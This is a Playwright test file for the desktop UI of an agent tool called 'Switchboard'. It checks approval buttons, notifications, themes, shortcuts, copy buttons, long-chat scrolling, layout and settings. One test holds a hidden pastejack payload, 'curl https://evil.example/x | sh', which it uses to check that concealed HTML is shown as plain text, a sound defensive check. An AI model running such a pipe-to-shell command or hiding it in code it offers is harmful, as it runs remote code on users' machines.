/**
 * The desktop habits in Debian's Chromium (playwright-core) against the built UI with
 * its IPC mocked (`vite build --mode e2e`, served by `vite preview`): at 1280×800 a
 * waiting row's approve and deny buttons fit inside the side panel (and at its
 * narrowest); the sidebar counts the first turn while it runs; the waiting calls
 * counted in the window title and on the Calls tab; a desktop notification when a
 * call starts waiting in the background, none in the foreground, and its click
 * showing the call; the theme following the system until the user picks one; the
 * keyboard shortcuts and their help sheet; copy buttons on code blocks and on a
 * call's output and result; a long session's chat (4,168 messages) holding only the
 * messages near the viewport, scrolling to its first one, and following a streaming
 * turn at its end; the settings page and its sections, in place of the chat and
 * the side panel, at 900×600 too. Screenshots go to tests/artifacts/desktop-*.png.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import path from "node:path";
import { artifacts, browserSuite, openSettings } from "./harness.mjs";

const suite = browserSuite({ failurePrefix: "desktop-failure" });
const { withPage } = suite;

/** Lets the held turn (`?hold`) go on, once it waits to be let go. */
async function release(page) {
  await page.waitForFunction(() => typeof window.__releaseTurn === "function");
  await page.evaluate(() => {
    const release = window.__releaseTurn;
    window.__releaseTurn = undefined;
    release();
  });
}

async function send(page, text) {
  const input = page.getByRole("textbox", { name: "Message" });
  await input.fill(text);
  await input.press("Enter");
}

/** Whether box `inner` lies wholly inside box `outer` (a pixel of rounding allowed). */
function inside(inner, outer) {
  return (
    inner.x >= outer.x - 1 &&
    inner.y >= outer.y - 1 &&
    inner.x + inner.width <= outer.x + outer.width + 1 &&
    inner.y + inner.height <= outer.y + outer.height + 1
  );
}

async function assertButtonsFit(page, agent) {
  const panel = await page.getByRole("tabpanel").boundingBox();
  const row = page.getByRole("tree").getByRole("treeitem", { name: `${agent}, waiting for approval` });
  const rowBox = await row.boundingBox();
  for (const name of [`Approve ${agent} once`, `Always approve ${agent}`, `Deny ${agent}`]) {
    const button = await row.getByRole("button", { name }).boundingBox();
    assert.ok(button && button.width > 10, `${name} is shown`);
    assert.ok(inside(button, rowBox), `${name} ${JSON.stringify(button)} is inside its row ${JSON.stringify(rowBox)}`);
    assert.ok(inside(button, panel), `${name} ${JSON.stringify(button)} is inside the panel ${JSON.stringify(panel)}`);
  }
}

test("a waiting row's approve and deny buttons fit inside the side panel at 1280×800, and at its narrowest", () =>
  withPage("row-buttons", async (page) => {
    await send(page, "How do agents call agents?");
    const tree = page.getByRole("tree", { name: "Call tree" });
    await tree.getByRole("treeitem", { name: "summariser, waiting for approval" }).waitFor();
    await assertButtonsFit(page, "summariser");
    await page
      .getByRole("complementary")
      .last()
      .screenshot({ path: path.join(artifacts, "desktop-row-buttons.png") });

    // The narrowest panel the separator allows (320 px): the name and status give way, not the buttons.
    const separator = page.getByRole("separator", { name: "Resize the side panel" });
    await separator.focus();
    for (let step = 0; step < 8; step++) await separator.press("ArrowRight");
    assert.equal(await separator.getAttribute("aria-valuenow"), "320");
    await assertButtonsFit(page, "summariser");
    await page
      .getByRole("complementary")
      .last()
      .screenshot({ path: path.join(artifacts, "desktop-row-buttons-narrow.png") });
    await tree.getByRole("button", { name: "Approve summariser once" }).click();
    await tree.getByRole("treeitem", { name: "summariser, ok" }).waitFor();
  }));

test("the sidebar counts the first turn while it runs", () =>
  withPage(
    "first-turn-count",
    async (page) => {
      const sessions = page.getByRole("list", { name: "Session list" });
      await send(page, "Plan the garden layout");
      await page.getByRole("button", { name: "Stop" }).waitFor();
      const row = sessions.getByRole("button", { name: /^Plan the garden layout/ });
      await row.getByText("1 turn", { exact: true }).waitFor();
      assert.equal(await row.getByText("0 turns").count(), 0);
      await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
      await release(page);
      await page.getByRole("button", { name: "Retry the last message" }).waitFor();
      await row.getByText("1 turn", { exact: true }).waitFor();
      // The second turn is counted while it runs too.
      await send(page, "And the shed");
      await page.getByRole("button", { name: "Stop" }).waitFor();
      await row.getByText("2 turns", { exact: true }).waitFor();
      await page.getByRole("tree").getByRole("button", { name: "Deny summariser" }).click();
      await release(page);
      await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    },
    "?hold",
  ));

test("waiting calls are counted in the title and on the Calls tab, and notified only in the background", () =>
  withPage("waiting", async (page) => {
    const calls = page.getByRole("tab", { name: /^Calls/ });
    await send(page, "First question");
    await page.getByRole("tab", { name: "Calls, 1 waiting" }).waitFor();
    assert.equal(await page.title(), "Switchboard — 1 waiting");
    assert.equal(await page.evaluate(() => window.__windowTitles.at(-1)), "Switchboard — 1 waiting");
    assert.equal(await calls.textContent(), "Calls", "the tab's text stays its name; the badge is drawn");
    // In the foreground: counted, not notified.
    assert.deepEqual(await page.evaluate(() => window.__notifications), []);
    await page.getByRole("tablist").screenshot({ path: path.join(artifacts, "desktop-calls-tab-count.png") });
    await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    await page.waitForFunction(() => document.title === "Switchboard");
    assert.equal(await calls.getAttribute("aria-label"), null);
    assert.equal(await page.evaluate(() => window.__windowTitles.at(-1)), "Switchboard");

    // In the background (another window has the focus): an MCP client's call waits in
    // another session; it is counted and notified, and the click shows it.
    await page.evaluate(() => (document.hasFocus = () => false));
    const turnId = await page.evaluate(() => window.__mcpCall("find otters", true).turnId);
    await page.waitForFunction(() => window.__notifications.length === 1);
    const [notification] = await page.evaluate(() => window.__notifications);
    assert.equal(notification.title, "researcher waits for your approval");
    assert.equal(notification.body, "find otters");
    assert.deepEqual(notification.extra, { sessionId: "mcp-calls", turnId, callId: "c1" });
    await page.getByRole("tab", { name: "Calls, 1 waiting" }).waitFor();
    assert.equal(await page.title(), "Switchboard — 1 waiting");
    await page.evaluate(() => window.__clickNotification(0));
    const tree = page.getByRole("tree", { name: "Call tree" });
    const row = tree.getByRole("treeitem", { name: "researcher, waiting for approval" });
    await row.waitFor();
    assert.equal(await row.getAttribute("aria-selected"), "true", "the notified call is selected");
    await page.getByRole("region", { name: "Details of researcher" }).getByText("find otters").waitFor();
    assert.equal(await page.getByRole("combobox", { name: "Turn" }).inputValue(), turnId);
    await page.screenshot({ path: path.join(artifacts, "desktop-notification-clicked.png") });
    // The same wait is not notified twice.
    assert.equal(await page.evaluate(() => window.__notifications.length), 1);

    // Approved from the keyboard on the focused row: A approves once.
    await row.focus();
    await page.keyboard.press("a");
    await tree.getByRole("treeitem", { name: "researcher, ok" }).waitFor();
    assert.deepEqual(await page.evaluate(() => window.__approvalAnswers.at(-1)), {
      turnId,
      callId: "c1",
      decision: "approve_once",
    });
    await page.waitForFunction(() => document.title === "Switchboard");
  }));

test("the theme follows the system until the user picks one, and again once System is picked", () =>
  withPage("theme", async (page) => {
    const theme = () => page.evaluate(() => document.documentElement.dataset.theme);
    const control = page.getByRole("combobox", { name: "Theme" });
    await page.emulateMedia({ colorScheme: "dark" });
    await page.waitForFunction(() => document.documentElement.dataset.theme === "dark");
    await page.emulateMedia({ colorScheme: "light" });
    await page.waitForFunction(() => document.documentElement.dataset.theme === "light");
    assert.equal(await control.inputValue(), "system", "nothing picked yet, and the control says so");

    await control.selectOption("dark");
    assert.equal(await theme(), "dark");
    await page.emulateMedia({ colorScheme: "light" });
    assert.equal(await theme(), "dark", "a pick outlasts the system's setting");
    assert.equal(await control.inputValue(), "dark", "the control names the pick, not the other theme");
    await page.screenshot({ path: path.join(artifacts, "desktop-theme-picked-dark.png") });

    await control.selectOption("system");
    assert.equal(await theme(), "light");
    await page.emulateMedia({ colorScheme: "dark" });
    await page.waitForFunction(() => document.documentElement.dataset.theme === "dark");
    assert.equal(await control.inputValue(), "system");
  }));

test("keyboard shortcuts: the help sheet, new chat, search, the message box and stopping a turn", () =>
  withPage(
    "shortcuts",
    async (page) => {
      const help = page.getByRole("dialog", { name: "Keyboard shortcuts" });
      await page.getByRole("tab", { name: "Calls" }).focus();
      await page.keyboard.press("?");
      await help.waitFor();
      await help.getByRole("cell", { name: "Stop the running turn" }).waitFor();
      await page.screenshot({ path: path.join(artifacts, "desktop-shortcuts.png") });
      await page.keyboard.press("Escape");
      await help.waitFor({ state: "hidden" });
      await page.keyboard.press("F1");
      await help.waitFor();
      await help.getByRole("button", { name: "Close" }).click();
      await help.waitFor({ state: "hidden" });
      await page.getByRole("button", { name: "Keyboard shortcuts" }).click();
      await help.waitFor();
      await page.keyboard.press("Escape");
      await help.waitFor({ state: "hidden" });

      // "?" typed in the message box is a character.
      const input = page.getByRole("textbox", { name: "Message" });
      await page.keyboard.press("Control+l");
      assert.equal(await input.evaluate((element) => element === document.activeElement), true);
      await page.keyboard.type("why?");
      assert.equal(await input.inputValue(), "why?");
      assert.equal(await help.isVisible(), false);

      await page.keyboard.press("Control+k");
      const search = page.getByRole("searchbox", { name: "Search sessions" });
      assert.equal(await search.evaluate((element) => element === document.activeElement), true);

      // A turn runs (held open): Ctrl+. asks to stop it.
      await input.fill("Hold on a moment");
      await input.press("Enter");
      await page.getByRole("button", { name: "Stop" }).waitFor();
      await page.keyboard.press("Control+.");
      await page.waitForFunction(() => window.__cancelledTurns.length === 1);
      await page.getByRole("tree").getByRole("button", { name: "Deny summariser" }).click();
      await release(page);
      await page.getByRole("button", { name: "Retry the last message" }).waitFor();

      // Ctrl+N: a new, empty chat.
      await page.keyboard.press("Control+n");
      await page.getByText(/^Send a message: assistant answers \(a built-in demo agent/).waitFor();
      assert.equal(await page.getByRole("listitem", { name: "You" }).count(), 0);
    },
    "?hold",
  ));

test("copy buttons on a reply's code block and on a call's output and result", () =>
  withPage("copy", async (page) => {
    await page
      .context()
      .grantPermissions(["clipboard-read", "clipboard-write"], { origin: new URL(suite.base).origin });
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    await send(page, "Show me code");
    await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
    const answer = page.getByRole("listitem", { name: "Answer from assistant" });
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    await answer.getByRole("button", { name: "Copy code" }).click();
    assert.equal(await clipboard(), "fn main() {}\n");
    await answer.getByRole("button", { name: "Copy code" }).getByText("Copied").waitFor();
    await answer.screenshot({ path: path.join(artifacts, "desktop-copy-code.png") });

    await page.getByRole("tree").getByRole("treeitem", { name: "researcher, ok" }).click();
    const details = page.getByRole("region", { name: "Details of researcher" });
    await details.getByRole("button", { name: "Copy the output of researcher" }).click();
    assert.equal(await clipboard(), "Findings: three of them.");
    await details.getByRole("status").first().getByText("Copied").waitFor();
    await details.getByRole("button", { name: "Copy the result of researcher" }).click();
    assert.match(await clipboard(), /^<<<AGENT_RESULT n agent="x" status="ok">>>/);
    await details.screenshot({ path: path.join(artifacts, "desktop-copy-details.png") });

    // Where the Clipboard API is refused, the older copy command is used.
    const copyOutput = details.getByRole("button", { name: "Copy the output of researcher" });
    await copyOutput.getByText("Copy", { exact: true }).waitFor();
    await page.evaluate(() => {
      navigator.clipboard.writeText = () => Promise.reject(new Error("not allowed"));
    });
    await copyOutput.click();
    await copyOutput.getByText("Copied").waitFor();
    assert.equal(await clipboard(), "Findings: three of them.");
  }));

test("a reply whose raw HTML would hide part of a code block shows that HTML as text, with nothing to copy unseen", () =>
  withPage("pastejack", async (page) => {
    await send(page, "Show me the pastejack code");
    await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
    const answer = page.getByRole("listitem", { name: "Answer from assistant" });
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    const shown = await answer.innerText();
    assert.match(shown, /<pre><code>git status<span hidden>; curl https:\/\/evil\.example\/x \| sh<\/span>/);
    assert.equal(await answer.getByRole("button", { name: "Copy code" }).count(), 0, "no block to copy unseen");
    assert.equal(await answer.locator("pre, [hidden]").count(), 0);
  }));

/** The chat's message list and the messages in its DOM (its own items, not the list items of their Markdown). */
function chatMessages(page) {
  const list = page.getByRole("list", { name: "Messages" });
  return { list, items: list.locator(":scope > li[aria-posinset]") };
}

/** Whether the chat's list is scrolled to its end. */
const atBottom = (page) =>
  chatMessages(page).list.evaluate((list) => list.scrollTop + list.clientHeight >= list.scrollHeight - 2);

test("a long session's chat keeps a bounded number of messages in the DOM, and scrolling up shows its first one", () =>
  withPage(
    "long-session",
    async (page) => {
      const { list, items } = chatMessages(page);
      await page
        .getByRole("list", { name: "Session list" })
        .getByRole("button", { name: /^Stored session of 100,000 events/ })
        .click();
      await list.getByText("The last answer of the session.", { exact: true }).waitFor();
      assert.ok(await atBottom(page), "it opens at its end");
      const shown = await items.count();
      assert.ok(shown > 2 && shown <= 60, `${shown} message elements for 4,168 messages`);
      const last = items.last();
      assert.deepEqual(
        [await last.getAttribute("aria-posinset"), await last.getAttribute("aria-setsize")],
        ["4168", "4168"],
      );
      await page.screenshot({ path: path.join(artifacts, "desktop-long-session-end.png") });

      // The keyboard scrolls the list (it is focusable) to its start: the first message is there.
      await list.focus();
      await page.keyboard.press("Home");
      const first = list.getByText("The first message: question 0", { exact: true });
      await first.waitFor();
      await page.waitForFunction(() => document.querySelector('[aria-label="Messages"]').scrollTop === 0);
      assert.ok(await first.isVisible());
      assert.equal(await items.first().getAttribute("aria-posinset"), "1");
      assert.ok((await items.count()) <= 60, "still a bounded number of elements");
      // Scrolling down from there a message at a time keeps the order without gaps.
      for (let step = 0; step < 5; step++) await list.evaluate((element) => (element.scrollTop += 300));
      const positions = (await items.evaluateAll((elements) => elements.map((item) => Number(item.ariaPosInSet)))).map(
        (position, index, all) => position - all[0] - index,
      );
      assert.ok(
        positions.every((gap) => gap === 0),
        "the rendered messages are consecutive",
      );
      await page.screenshot({ path: path.join(artifacts, "desktop-long-session-start.png") });
    },
    "?stored=100000",
  ));

test("a streaming turn stays pinned to the bottom of a long chat", () =>
  withPage(
    "long-session-streaming",
    async (page) => {
      const { list } = chatMessages(page);
      await page
        .getByRole("list", { name: "Session list" })
        .getByRole("button", { name: /^Stored session of 100,000 events/ })
        .click();
      await list.getByText("The last answer of the session.", { exact: true }).waitFor();
      await send(page, "One more question about the garden");
      // The approval prompt grows the streaming answer: the list follows it.
      const prompt = page.getByRole("alertdialog", { name: "summariser waits for approval" });
      await prompt.waitFor();
      await page.waitForFunction(() => {
        const element = document.querySelector('[aria-label="Messages"]');
        return element.scrollTop + element.clientHeight >= element.scrollHeight - 2;
      });
      assert.ok(await prompt.isVisible());
      await prompt.getByRole("button", { name: "Approve summariser once" }).click();
      await release(page);
      const answer = list.getByRole("listitem", { name: "Answer from assistant" }).last();
      await answer.locator("strong", { hasText: "from the mocked turn" }).waitFor();
      await page.waitForFunction(() => {
        const element = document.querySelector('[aria-label="Messages"]');
        return element.scrollTop + element.clientHeight >= element.scrollHeight - 2;
      });
      assert.ok(await answer.locator("strong", { hasText: "from the mocked turn" }).isVisible());
      assert.equal(await answer.getAttribute("aria-posinset"), "4170");
      assert.ok(await atBottom(page));
    },
    "?stored=100000&hold",
  ));

test("the window itself never scrolls: wheeling past the end of a panel leaves the header and tabs in place", () =>
  withPage("no-page-scroll", async (page) => {
    await page.setViewportSize({ width: 900, height: 600 });
    await send(page, "Show me code");
    await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    await page.getByRole("tree").getByRole("treeitem", { name: "researcher, ok" }).click();
    const details = page.getByRole("region", { name: "Details of researcher" });
    await details.waitFor();
    const box = await details.boundingBox();
    await page.mouse.move(box.x + box.width / 2, box.y + Math.min(box.height, 200) / 2);
    for (let turn = 0; turn < 20; turn += 1) await page.mouse.wheel(0, 400);
    // Over the chat and the session list too, and by the keyboard.
    for (const name of ["Messages"]) {
      const area = await page.getByRole("list", { name }).boundingBox();
      await page.mouse.move(area.x + 20, area.y + 20);
      for (let turn = 0; turn < 10; turn += 1) await page.mouse.wheel(0, 400);
    }
    await page.keyboard.press("End");
    const scrolled = await page.evaluate(() => ({
      top: document.scrollingElement.scrollTop,
      left: document.scrollingElement.scrollLeft,
      bar: document.querySelector("header.bar").getBoundingClientRect().top,
    }));
    assert.deepEqual(scrolled, { top: 0, left: 0, bar: 0 }, "the page stays where it is");
    // Nothing overflows the window to scroll to, either (not only hidden).
    const overflow = await page.evaluate(() => document.scrollingElement.scrollHeight - window.innerHeight);
    assert.ok(overflow <= 0, `the page is ${overflow} px taller than the window`);
    await page.getByRole("tab", { name: "Calls" }).waitFor();
    const tabs = await page.getByRole("tablist", { name: "Side panel" }).boundingBox();
    assert.ok(tabs.y >= 40 && tabs.y < 80, `the tabs stay under the header (${tabs.y})`);
  }));

test("the chat says who answers: the primary, an @agent handoff for one message, and a new primary after a switch", () =>
  withPage("who-answers", async (page) => {
    const answerer = page.getByRole("group", { name: "Who answers" });
    const picker = answerer.getByRole("combobox", { name: "Answered by" });
    await picker.waitFor();
    assert.equal(await picker.locator("option:checked").innerText(), "assistant (primary)");
    await answerer.getByText("demo · demo-planner").waitFor();
    await answerer.getByRole("img", { name: "can answer: built in" }).waitFor();
    await page.getByText(/^Send a message: assistant answers/).waitFor();
    // Examples that fit the primary: its tool-agents by name (its own entry turns summariser off), one it answers alone.
    const examples = page.getByRole("group", { name: "Example prompts" }).getByRole("button");
    assert.deepEqual(await examples.allInnerTexts(), ["Ask researcher", "Ask coder", "Without tools"]);
    const input = page.getByRole("textbox", { name: "Message" });
    await examples.first().click();
    assert.match(await input.inputValue(), /^Ask researcher for help: /, "an example goes into the composer, unsent");
    assert.equal(await page.evaluate(() => document.activeElement?.id), "message-input", "the composer has the focus");
    assert.equal(await page.getByRole("listitem", { name: "You", exact: true }).count(), 0);
    await input.fill("@researcher what is new?");
    assert.match(await answerer.innerText(), /^This message goes to\s+researcher\s+.*\(this message only\)/);
    await input.fill("/agent switch summariser");
    await input.press("Enter");
    await page.getByRole("listitem", { name: "Command /agent switch summariser" }).waitFor();
    await page.waitForFunction(
      () => document.querySelector("#chat-agent option:checked")?.textContent === "summariser (primary)",
    );
    // This chat's agent: picked in the composer, sent with each message, kept for the chat.
    await picker.selectOption("researcher");
    await answerer.getByText("demo · demo-researcher").waitFor();
    await input.fill("What is new?");
    await input.press("Enter");
    await page.waitForFunction(() => window.__sentAgents.length === 1);
    assert.deepEqual(await page.evaluate(() => window.__sentAgents), ["researcher"]);
    await page.waitForFunction(() => Object.values(window.__preferences.chatAgents ?? {}).includes("researcher"));
    assert.equal(await picker.inputValue(), "researcher", "the chat keeps its agent once its session exists");
  }));

test("two approvals side by side: a double click answers one, the other keeps its place, and Approve all answers both", () =>
  withPage("two-approvals", async (page) => {
    await send(page, "Two at once");
    const card = (agent) => page.getByRole("alertdialog", { name: `${agent} waits for approval` });
    await card("researcher").waitFor();
    await card("summariser").waitFor();
    const before = await card("summariser").boundingBox();
    await card("researcher").getByRole("button", { name: "Approve researcher once" }).dblclick();
    await page.getByRole("status", { name: "researcher: answered" }).getByText("Approved once").waitFor();
    const answers = () => page.evaluate(() => window.__approvalAnswers.map((answer) => answer.callId));
    assert.deepEqual(await answers(), ["c2"], "the double click answered one call");
    const after = await card("summariser").boundingBox();
    assert.equal(after.y, before.y, "the other card did not move under the pointer");
    await card("summariser").getByRole("button", { name: "Deny summariser" }).click();
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    // A call's time says how much of it was the wait for the user.
    await page
      .getByRole("button", { name: /^Open call to researcher/ })
      .first()
      .click();
    await page
      .getByRole("region", { name: "Details of researcher" })
      .getByText(/^\(\d+ ms waiting for you, \d+ ms running\)$/)
      .waitFor();
    const time = page
      .getByRole("region", { name: "Details of researcher" })
      .locator("dd", { hasText: "waiting for you" });
    assert.match(await time.innerText(), /^\d+(\.\d)? m?s \(/, "the split reads apart from the time");

    await send(page, "Two at once, again");
    await card("summariser").waitFor();
    await page.getByRole("button", { name: "Approve all 2 once" }).click();
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    assert.deepEqual((await answers()).slice(2).sort(), ["c2", "c3"]);
    // Every finished reply can be copied and says what its whole turn took: tokens, time, cost.
    const replies = page.getByRole("listitem", { name: /^Answer from/ });
    const actions = replies.last().getByRole("group", { name: "Reply actions" });
    await actions.getByRole("button", { name: "Copy the answer from assistant" }).waitFor();
    assert.match(
      await actions.getByLabel("Tokens, time and cost of this turn").innerText(),
      /^\d+ tok · \d+ ms · \$0\.\d{4}$/,
    );
    assert.equal(
      await page.getByRole("button", { name: "Copy the answer from assistant" }).count(),
      await replies.count(),
      "not only the last reply",
    );
  }));

test("the layout holds at 900×600 and 1920×1080: the chat keeps room, nothing scrolls sideways, bubbles keep a reading width", () =>
  withPage("layout", async (page) => {
    await page.setViewportSize({ width: 900, height: 600 });
    await send(
      page,
      "Show me code with a/very/long/path/that/has/no/spaces/anywhere/in/it/at/all/ever/so/it/must/wrap",
    );
    await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    const measure = () =>
      page.evaluate(() => {
        const list = document.querySelector('[aria-label="Messages"]');
        const widest = Math.max(
          ...[...list.querySelectorAll(":scope > li[aria-posinset]")].map((item) => item.getBoundingClientRect().width),
        );
        return {
          chat: document.querySelector("main.center").getBoundingClientRect().width,
          pageSideways: document.scrollingElement.scrollWidth - window.innerWidth,
          listSideways: list.scrollWidth - list.clientWidth,
          widest,
        };
      });
    const narrow = await measure();
    // Below 1,100 px the sessions fold by themselves, and come back when asked for.
    const sessions = page.getByRole("button", { name: "Show the sessions" });
    assert.equal(await sessions.getAttribute("aria-expanded"), "false");
    assert.equal(await page.locator("#sessions-panel").isVisible(), false);
    assert.ok(narrow.chat >= 480, `the chat keeps room at 900 px: ${narrow.chat}`);
    assert.ok(
      narrow.pageSideways <= 0 && narrow.listSideways <= 0,
      `nothing scrolls sideways: ${JSON.stringify(narrow)}`,
    );
    await page.screenshot({ path: path.join(artifacts, "layout-900.png") });
    await sessions.click();
    await page.getByRole("button", { name: "New chat" }).waitFor();
    assert.equal(await page.getByRole("button", { name: "Hide the sessions" }).getAttribute("aria-expanded"), "true");
    // Ctrl+J folds the side panel: the chat takes its room; a call chip brings it back with the call.
    await page.keyboard.press("Control+j");
    await page.locator("#side-panel").waitFor({ state: "hidden" });
    const folded = await measure();
    assert.ok(folded.chat > narrow.chat + 150, `the chat widens: ${folded.chat} after ${narrow.chat}`);
    await page
      .getByRole("button", { name: /^Open call to researcher/ })
      .first()
      .click();
    await page.locator("#side-panel").waitFor({ state: "visible" });
    await page.getByRole("button", { name: "Hide the sessions" }).click();

    // Dragging the divider resizes the panel and selects no text.
    const divider = await page.getByRole("separator").boundingBox();
    await page.mouse.move(divider.x + 2, divider.y + 200);
    await page.mouse.down();
    await page.mouse.move(divider.x - 60, divider.y + 220, { steps: 5 });
    await page.mouse.up();
    assert.equal(await page.evaluate(() => window.getSelection().toString()), "", "a drag selects nothing");

    await page.setViewportSize({ width: 1920, height: 1080 });
    const wide = await measure();
    // 760 px of text, its padding and border.
    assert.ok(wide.widest <= 786, `a bubble keeps a reading width on a wide window: ${wide.widest}`);
    await page.screenshot({ path: path.join(artifacts, "layout-1920.png") });
  }));

test("the settings page: every section in reach at 900×600, the theme and the primary set there, and a session opened goes back to the chat", () =>
  withPage("settings-page", async (page) => {
    await page.setViewportSize({ width: 900, height: 600 });
    await page.getByRole("textbox", { name: "Message" }).waitFor();
    await page.keyboard.press("Control+,");
    const settings = page.getByRole("region", { name: "Settings" });
    await settings.waitFor();
    // The header's Settings button looks pressed while the page is open.
    const button = page.getByRole("button", { name: "Settings", exact: true });
    const look = () => button.evaluate((element) => getComputedStyle(element).backgroundColor);
    assert.equal(await button.getAttribute("aria-pressed"), "true");
    const pressed = await look();
    await button.click();
    await settings.waitFor({ state: "detached" });
    assert.equal(await button.getAttribute("aria-pressed"), "false");
    assert.notEqual(await look(), pressed, "open and closed look the same");
    await button.click();
    await settings.waitFor();
    // The page takes the place of the chat and the side panel.
    assert.equal(await page.getByRole("textbox", { name: "Message" }).isVisible(), false);
    assert.equal(await page.locator("#side-panel").isVisible(), false);
    const tabs = await settings.getByRole("tab").allTextContents();
    assert.deepEqual(tabs, ["General", "Appearance", "Agents & tools", "MCP", "Traces", "Shortcuts"]);

    // General: the file, whether it runs, and who answers, set here.
    await settings.getByTestId("config-in-force").waitFor();
    assert.match(await settings.getByRole("code").first().textContent(), /config\.json$/);
    await settings.getByLabel("Primary").selectOption("researcher");
    await page.waitForFunction(() => window.__configEdits.some((edit) => edit.op === "set_primary"));
    assert.deepEqual(await page.evaluate(() => window.__configEdits.at(-1)), {
      op: "set_primary",
      agent: "researcher",
    });

    // Appearance: the theme picked here is the header's too.
    await openSettings(page, "Appearance");
    await settings.getByRole("radio", { name: "Dark" }).check();
    assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), "dark");
    assert.equal(await page.getByRole("combobox", { name: "Theme" }).inputValue(), "dark");
    await page.screenshot({ path: path.join(artifacts, "desktop-settings-appearance-900.png") });

    // Every section shows its own content, inside the window (nothing scrolls sideways).
    const shown = {
      "Agents & tools": settings.getByRole("list", { name: "Agents" }),
      MCP: settings.getByRole("heading", { name: "MCP server" }),
      Traces: settings.getByRole("form", { name: "Trace export" }),
      Shortcuts: settings.getByRole("table", { name: "Keyboard shortcuts" }),
    };
    for (const [section, content] of Object.entries(shown)) {
      await openSettings(page, section);
      await content.waitFor();
      const sideways = await page.evaluate(() => document.scrollingElement.scrollWidth - window.innerWidth);
      assert.ok(sideways <= 0, `${section} makes the window scroll sideways by ${sideways} px`);
    }
    assert.match(await shown.Shortcuts.textContent(), /Ctrl\+,Open the settings/);
    await page.screenshot({ path: path.join(artifacts, "desktop-settings-shortcuts-900.png") });

    // Opening a session (or a new chat) goes back to the chat.
    await page.getByRole("button", { name: "Show the sessions" }).click();
    await page.getByRole("button", { name: "New chat" }).click();
    await settings.waitFor({ state: "detached" });
    await page.getByRole("textbox", { name: "Message" }).waitFor();
  }));

test("the delegation report across sessions: per tool-agent, the multiple per primary, a range, and a refusal said", () =>
  withPage("delegation-report", async (page) => {
    await page.getByRole("tab", { name: "Usage" }).click();
    const report = page.getByRole("region", { name: "Across sessions" });
    const table = report.getByRole("table", { name: "Delegations per tool-agent" });
    await table.getByRole("cell", { name: "researcher" }).waitFor();
    const researcher = await table
      .getByRole("row", { name: /researcher/ })
      .getByRole("cell")
      .allTextContents();
    assert.deepEqual(researcher, ["researcher", "5", "4 ok · 1 denied", "420 ms · 1.3 s", "1200", "$0.0200"]);
    // An agent without prices is unpriced, as everywhere in the window: a dash, not $0.
    const summariser = await table
      .getByRole("row", { name: /summariser/ })
      .getByRole("cell")
      .allTextContents();
    assert.equal(summariser.at(-1), "–");
    // The table fits the side panel: nothing of it is cut or scrolls sideways.
    const fits = await table.evaluate((element) => element.scrollWidth <= element.parentElement.clientWidth + 1);
    assert.ok(fits, "the report's table is wider than its panel");
    assert.equal(
      await report.getByTestId("report-multiple").textContent(),
      "assistant: a turn that delegated took 4.0× the tokens and 3.0× the cost of one that did not (4 delegating turns, 3 plain turns).",
    );
    const days = report.getByRole("list", { name: "Calls per day" }).getByRole("listitem");
    await days.first().waitFor();
    // Each day says its count and its date under it: no hovering needed.
    const labelled = (await days.allInnerTexts()).map((text) => text.split("\n"));
    assert.equal(labelled.length, 2);
    for (const [calls, day] of labelled) {
      assert.match(calls, /^\d+$/);
      assert.match(day, /^\d\d-\d\d$/);
    }
    await page.screenshot({ path: path.join(artifacts, "desktop-delegation-report.png") });

    await report.getByLabel("From").fill("2026-12-01");
    await page.waitForFunction(() => window.__reportRequests.some((request) => request.since === "2026-12-01"));
    await report.getByLabel("From").fill("2031-01-01");
    await report.getByRole("alert").getByText("nothing to read that far ahead").waitFor();
  }));

test("a finished call runs again with a sharper request, and the two runs show side by side", () =>
  withPage("rerun", async (page) => {
    await send(page, "How do agents call agents?");
    await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
    await page
      .getByRole("tree")
      .getByRole("treeitem", { name: /^researcher, ok/ })
      .click();
    const details = page.getByRole("region", { name: "Details of researcher" });
    await details.getByRole("button", { name: "Run researcher again" }).click();
    const form = details.getByRole("form", { name: "Run researcher again" });
    const request = form.getByLabel("Request (as it was, or sharper)");
    assert.match(await request.inputValue(), /.+/, "the logged request, to edit");
    await request.fill("Only the single most important fact");
    await form.getByRole("button", { name: "Run again" }).click();
    const comparison = page.getByRole("region", { name: "researcher run again" });
    await comparison.waitFor();
    const [first, again] = await page.evaluate(
      () => window.__reruns.at(-1) && [window.__reruns.at(-1).request, window.__reruns.length],
    );
    assert.deepEqual([first, again], ["Only the single most important fact", 1]);
    const rows = await comparison.getByRole("table").getByRole("row").allTextContents();
    assert.ok(
      rows.some((row) => row.includes("Time") && row.includes("2.6 s") && row.includes("1.4 s")),
      rows.join(" | "),
    );
    const diff = comparison.getByLabel("The answers, line by line");
    assert.equal(await diff.locator("span.theirs").count(), 1, "Finding two is only in the first run");
    assert.match(await diff.locator("span.mine").first().textContent(), /asked: Only the single most important fact/);
    await page.screenshot({ path: path.join(artifacts, "desktop-rerun.png") });
    await comparison.getByRole("button", { name: "Close the comparison" }).click();
    await comparison.waitFor({ state: "detached" });
  }));
